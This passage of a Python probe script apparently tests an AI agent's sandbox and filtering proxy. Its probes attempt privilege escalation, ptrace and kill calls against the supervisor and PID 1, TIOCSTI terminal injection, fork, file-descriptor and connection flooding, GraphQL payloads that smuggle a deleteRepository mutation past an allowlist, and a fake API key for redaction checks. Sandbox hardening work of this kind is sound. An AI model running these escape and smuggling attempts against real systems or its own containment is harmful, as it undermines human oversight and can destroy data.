    out["syscalls"] = dict(l.split() for l in p.stdout.splitlines() if len(l.split()) == 2)
    for mode in ("int80", "x32"):
        p = subprocess.run([CFG["probe_bin"], mode], capture_output=True, text=True)
        out[mode] = {"rc": p.returncode, "out": p.stdout.strip()}
    return out


# ---- process / privilege --------------------------------------------------------------
def proc_status():
    with open("/proc/self/status") as f:
        return dict(l.split(":", 1) for l in f.read().splitlines() if ":" in l)


@probe
def pr_identity():
    st = proc_status()
    return {"uid": os.getuid(), "euid": os.geteuid(), "gid": os.getgid(),
            "groups": os.getgroups(), "CapEff": st["CapEff"].strip(),
            "CapBnd": st["CapBnd"].strip(), "NoNewPrivs": st["NoNewPrivs"].strip(),
            "Seccomp": st["Seccomp"].strip(), "setuid0": setuid0()}


def setuid0():
    try:
        os.setuid(0)
        return "OK"
    except OSError as e:
        return ename(e)


@probe
def pr_setuid_binary():
    return run([CFG["suid_binary"]])


@probe
def pr_ptrace_and_signals():
    sup, victim = CFG["supervisor_pid"], CFG["victim_pid"]
    out = {"ptrace_supervisor": syscall(NR["ptrace"], 16, sup, 0, 0),
           "ptrace_pid1": syscall(NR["ptrace"], 16, 1, 0, 0),
           "kill_supervisor": syscall(NR["kill"], sup, 15),
           "kill_victim": syscall(NR["kill"], victim, 9),
           "kill_pid1": syscall(NR["kill"], 1, 9)}
    child = subprocess.Popen(["sleep", "30"])
    out["kill_own_child_control"] = syscall(NR["kill"], child.pid, 9)
    child.wait()
    out["visible_pids"] = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
    return out


@probe
def pr_tiocsti():
    out = {"dev_tty": open_errno("/dev/tty", "r+")}
    r = subprocess.run([CFG["probe_bin"], "tiocsti"], capture_output=True, text=True)
    out["tiocsti_stdin"] = dict(l.split() for l in r.stdout.splitlines() if len(l.split()) == 2)
    p = subprocess.run([CFG["probe_bin"], "syscalls"], capture_output=True, text=True)
    lines = dict(l.split() for l in p.stdout.splitlines() if len(l.split()) == 2)
    out["tiocsti_any_fd"] = lines.get("ioctl_tiocsti")
    out["tcgets_control"] = lines.get("allowed_ioctl_tcgets")
    return out


# ---- resource exhaustion ------------------------------------------------------------
@probe
def ex_many_connections():
    """More connections than the proxy's per-sandbox limit, from several
    processes (each holds what its own fd limit allows)."""
    r, w = os.pipe()
    kids = []
    for i in range(5):
        pid = os.fork()
        if pid == 0:
            os.close(r)
            socks, codes = [], {}
            for _ in range(900):
                try:
                    socks.append(socket.create_connection(proxy_addr(), timeout=5))
                except OSError as e:
                    codes[ename(e)] = codes.get(ename(e), 0) + 1
                    break
            # Collect the answers as they come (a loaded or sanitized proxy
            # takes its time with the backlog): until every socket answered,
            # or 2 s pass quietly after the first 503, or 20 s in all.
            poller, by_fd = select.poll(), {s.fileno(): s for s in socks}
            for fd in by_fd:
                poller.register(fd, select.POLLIN)
            start, last = time.monotonic(), None
            while by_fd and time.monotonic() - start < 20:
                if last and time.monotonic() - last > 2:
                    break
                for fd, _ in poller.poll(500):
                    s = by_fd.pop(fd)
                    poller.unregister(fd)
                    try:
                        if s.recv(12).startswith(b"HTTP/1.1 503"):
                            codes["503"] = codes.get("503", 0) + 1
                            last = time.monotonic()
                    except OSError:
                        pass
            codes["open"] = len(socks)
            os.write(w, (json.dumps(codes) + "\n").encode())
            os._exit(0)
        kids.append(pid)
    os.close(w)
    data = b""
    while True:
        chunk = os.read(r, 65536)
        if not chunk:
            break
        data += chunk
    for k in kids:
        os.waitpid(k, 0)
    per = [json.loads(l) for l in data.decode().splitlines()]
    return {"open": sum(p.get("open", 0) for p in per), "refused_503": sum(p.get("503", 0) for p in per),
            "after": get_abs("http://upstream.test/after-flood")}


@probe
def ex_fd_exhaustion():
    fds = []
    err = None
    try:
        while len(fds) < 100000:
            fds.append(os.open("/dev/null", os.O_RDONLY))
    except OSError as e:
        err = ename(e)
    for fd in fds:
        os.close(fd)
    return {"opened": len(fds), "errno": err, "after": get_abs("http://upstream.test/after-fds")}


@probe
def ex_huge_headers_parallel():
    results = []

    def one():
        try:
            s = socket.create_connection(proxy_addr(), timeout=10)
            s.sendall(b"GET http://upstream.test/huge HTTP/1.1\r\nHost: upstream.test\r\n")
            try:
                for _ in range(64):
                    s.sendall(b"X-Fill: " + b"b" * 16000 + b"\r\n")
            except OSError:
                pass
            results.append(parse(recv_all(s, 5)).get("status"))
            s.close()
        except OSError as e:
            results.append(ename(e))

    ths = [threading.Thread(target=one) for _ in range(32)]
    for t in ths:
        t.start()
    for t in ths:
        t.join()
    return {"statuses": sorted(set(map(str, results))),
            "after": get_abs("http://upstream.test/after-huge")}


@probe
def ex_fork_bomb_bounded():
    """1000 sleeping children (bounded, to spare the machine): how many the
    sandbox lets the agent create, and that the proxy still answers."""
    kids, err = [], None
    for _ in range(1000):
        try:
            pid = os.fork()
        except OSError as e:
            err = ename(e)
            break
        if pid == 0:
            time.sleep(30)
            os._exit(0)
        kids.append(pid)
    after = get_abs("http://upstream.test/after-forks")
    for k in kids:
        os.kill(k, signal.SIGKILL)
    for k in kids:
        os.waitpid(k, 0)
    return {"forked": len(kids), "errno": err, "after": after}


# ---- supervisor tampering / hardening / fail-closed -----------------------------------
@probe
def sup_after_selfguard():
    barrier("selfguard")
    return {"allowed": get_abs("http://upstream.test/after-selfguard"),
            "denied": get_abs("http://canary.test:8080/after-selfguard")}


@probe
def fc_after_crash():
    barrier("crash")
    time.sleep(0.3)
    out = {"proxy": tcp(*proxy_addr()), "canary": tcp(CFG["canary"], 8080),
           "udp": udp(CFG["canary"], 53, dns_query("after.crash.canary.test"))}
    return out


# ---- GraphQL inspection -----------------------------------------------------------------
def gql_post(doc, name=None, raw=None, host="api.test"):
    """A GraphQL POST over TLS through the proxy (the agent's own client)."""
    body = raw if raw is not None else json.dumps(
        {"query": doc, **({"operationName": name} if name else {})}).encode()
    return tls_request(host, 443, "/graphql", ["Content-Type: application/json"],
                       method="POST", body=body)


@probe
def gq_operations():
    return {
        "allowed": gql_post("query Viewer { viewer { login } }"),
        "unlisted": gql_post("{ viewer { login } organization { id } }"),
        "alias": gql_post("mutation IssueNew { createIssue: deleteRepository(id: 1) { id } }"),
        "fragment": gql_post("mutation IssueNew { ...F } "
                             "fragment F on Mutation { x: deleteRepository(id: 1) { id } }"),
        "mutation_ok": gql_post("mutation IssueNew { createIssue(title: \"t\") { id } }"),
        "name_mismatch": gql_post("query Ok { viewer { id } } "
                                  "mutation Bad { deleteRepository(id: 1) { id } }", "Bad"),
        "duplicate_keys": gql_post(None, raw=b'{"query":"{ viewer { id } }",'
                                   b'"query":"mutation { deleteRepository(id: 1) { id } }"}'),
        "comment": gql_post("# deleteRepository\n{ viewer(n: \"deleteRepository\") { id } }"),
        "deep": gql_post("{ viewer " + "{ a " * 140 + "}" * 141),
        "oversized": gql_post("{ viewer { id } }" + " " * 5000),
        "plain_get": get_abs("http://upstream.test/graphql?query=%7B+viewer+%7B+id+%7D+%7D"),
        "plain_get_denied": get_abs("http://upstream.test/graphql?query="
                                    "%7B+organization+%7B+id+%7D+%7D"),
    }


# ---- network middlewares ----------------------------------------------------------------
MW_KEY = "sk-" + "Adv3rsarial_Key-0123"


@probe
def mw_redaction():
    body = f'{{"prompt": "my key is {MW_KEY}"}}'.encode()
    return {
        "tls": tls_request("api.test", 443, "/mw-tls", method="POST", body=body),
        "plain": get_abs("http://upstream.test/mw-plain", method="POST", body=body),
        "binary": tls_request("api.test", 443, "/mw-binary", method="POST",
                              body=b"\xff" + MW_KEY.encode()),
        "tunnel": tunnel("creds.test", 443)[1],
    }


# ---- main --------------------------------------------------------------------------------
def main():
    if DIR != "/nonexistent" and os.path.exists(os.path.join(DIR, "config.json")):
        with open(os.path.join(DIR, "config.json")) as f:
            CFG.update(json.load(f))
    print("STARTED", flush=True)
    for name in sys.argv[2:]:
        if name.startswith("barrier:"):
            barrier(name.split(":", 1)[1])
            continue
        t0 = time.monotonic()
        try:
            r = PROBES[name]()
        except Exception as e:  # reported, never hidden: the test fails on it
            r = {"exception": f"{type(e).__name__}: {e}"}
        r = dict(r) if isinstance(r, dict) else {"value": r}
        r.update(probe=name, ms=int((time.monotonic() - t0) * 1000))
        print("RESULT " + json.dumps(r), flush=True)
    print("DONE", flush=True)


if __name__ == "__main__":
    main()
